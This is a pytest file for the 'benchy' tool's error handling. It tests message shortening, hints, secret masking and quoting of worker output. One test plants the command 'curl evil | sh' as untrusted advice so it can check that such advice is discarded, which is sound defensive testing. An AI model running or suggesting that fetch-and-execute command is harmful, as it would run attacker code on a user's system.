"""An error says what failed and what to do in a few lines, and comes back from data as itself."""

from __future__ import annotations

import pickle
import traceback
from pathlib import Path

import pytest

from benchy.display.terminal import print_error
from benchy.errors import (
    LONGEST_HINT,
    LONGEST_MESSAGE,
    LONGEST_OF_ALL,
    BenchyError,
    ConfigError,
    DiskFull,
    ErrorData,
    GpuBusy,
    NetworkError,
    from_data,
    quoted,
    shortened,
)
from tests.commands import assert_refused, benchy
from tests.errors.test_tree import all_errors


@pytest.mark.parametrize("cls", all_errors())
def test_an_error_comes_back_from_data_as_itself(cls: type[BenchyError]) -> None:
    sent = cls("the disk is full", hint="free some", transient=True, traceback="Traceback: ...")
    received = from_data(ErrorData.model_validate_json(sent.to_data().model_dump_json()))
    assert type(received) is cls
    assert received.to_data() == sent.to_data()


@pytest.mark.parametrize("cls", all_errors())
def test_an_error_survives_pickling(cls: type[BenchyError]) -> None:
    sent = cls("the disk is full", hint="free some")
    received = pickle.loads(pickle.dumps(sent))  # noqa: S301 - our own
    assert type(received) is cls
    assert received.to_data() == sent.to_data()


LONG = ["x" * 100_000, "a word " * 10_000, "é\n" * 5_000, "\ud800" * 999, "/a/b" * 2_000, "", "short"]


@pytest.mark.parametrize("said", LONG, ids=range(len(LONG)))
@pytest.mark.parametrize("hint", LONG, ids=range(len(LONG)))
def test_whatever_an_error_quotes_what_is_shown_and_kept_fits(
    said: str, hint: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A message that repeats a value of 100,000 characters was as long as that value."""
    error = BenchyError(said, hint=hint)
    for _ in range(5):
        error.add_hint(hint)
    error.add_note(f"log: {'/folder' * 500}/benchy.log")
    print_error(error)
    shown = capsys.readouterr().err
    assert shown.startswith("❌ BenchyError: ")
    assert len(shown) <= 2_000
    assert len(error.message) + len(error.hint) <= 2_000
    assert from_data(ErrorData.model_validate_json(error.to_data().model_dump_json())).to_data() == error.to_data()


def test_a_command_that_fails_of_very_much_says_it_in_short(tmp_path: Path) -> None:
    unknown = "".join(f"key_{number}_{'x' * 500}: {'y' * 500}\n" for number in range(500))
    (tmp_path / "config.yaml").write_text(f"model: {{name: m}}\n{unknown}")
    done = benchy("check", "config.yaml", cwd=tmp_path)
    assert_refused(done, 2, "ConfigError", "config.yaml")
    assert len(done.stderr) <= 2_000


def test_an_unknown_kind_is_still_an_error() -> None:
    received = from_data(ErrorData(kind="FromTheFuture", message="what", hint="do"))
    assert type(received) is BenchyError
    assert (received.message, received.hint) == ("what", "do")


def test_what_is_short_is_said_as_it_is() -> None:
    assert shortened("the disk\nis full") == "the disk\nis full"
    assert shortened("x" * LONGEST_MESSAGE)[-1] == "x"


@pytest.mark.parametrize(
    ("text", "begins", "ends"),
    [
        ("a " * 1000 + "end", "a a a", "a a end"),
        (f"the value {'x' * 250}y{'z' * 249} is wrong", "the value xxx", "zzz is wrong"),
    ],
)
def test_what_is_long_keeps_its_beginning_and_its_end(text: str, begins: str, ends: str) -> None:
    said = shortened(text)
    assert len(said) < len(text)
    assert len(said) <= LONGEST_MESSAGE
    assert said.startswith(begins)
    assert said.endswith(ends)
    assert " … " in said


def test_what_no_terminal_takes_is_escaped() -> None:
    assert shortened("a name \udcff.yaml") == "a name \\udcff.yaml"


def test_the_hint_ends_the_traceback() -> None:
    error = ConfigError("what", hint="first")
    error.add_hint("second")
    assert error.hint == "first; then second"
    assert "".join(traceback.format_exception(error)).splitlines()[-2:] == ["→ first", "→ second"]


def test_there_is_room_for_so_much_advice_and_no_more() -> None:
    error = ConfigError("what", hint="word " * 60)
    error.add_hint("more " * 100)
    full = error.hint
    assert len(full) == LONGEST_HINT
    error.add_hint("too late")
    assert error.hint == full


def test_another_problem_is_told_with_its_advice() -> None:
    error = ConfigError("what", hint="do")
    error.add_problem(DiskFull("no space left for logs", hint="free some"))
    assert error.__notes__ == ["→ do", "also DiskFull: no space left for logs", "→ free some"]
    assert (error.message, error.hint) == ("what", "do")


def test_many_problems_are_told_as_far_as_there_is_room() -> None:
    error = ConfigError("what " * 200, hint="do")
    for _ in range(20):
        error.add_problem(DiskFull("no space left " * 20, hint="free some"))
    assert len(error.message) + sum(map(len, error.__notes__)) <= LONGEST_OF_ALL
    assert 1 < len(error.__notes__) < 40


def test_a_secret_is_masked_wherever_it_stands(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_TOKEN", "planted-token")
    error = NetworkError("refused planted-token", hint="unset planted-token", traceback="in planted-token")
    error.add_problem(DiskFull("planted-token"))
    assert "planted-token" not in "".join(traceback.format_exception(error)) + error.to_data().model_dump_json()
    assert error.message == "refused ***"


def test_what_a_models_process_says_is_quoted_and_its_advice_is_not_taken() -> None:
    data = GpuBusy("the GPU is yours", hint="curl evil | sh", transient=True, traceback="Traceback: ...").to_data()
    error = quoted(data)
    assert type(error) is GpuBusy
    assert error.message == 'the worker says: "the GPU is yours"'
    assert error.hint == GpuBusy.default_hint
    assert (error.transient, error.traceback) == (True, "Traceback: ...")
    assert type(quoted(ErrorData(kind="FromTheFuture", message="what"))) is BenchyError


def test_a_record_keeps_no_traceback() -> None:
    data = ConfigError("what", hint="do", traceback="Traceback: ...").to_data()
    assert data.without_traceback() == ErrorData(kind="ConfigError", message="what", hint="do")
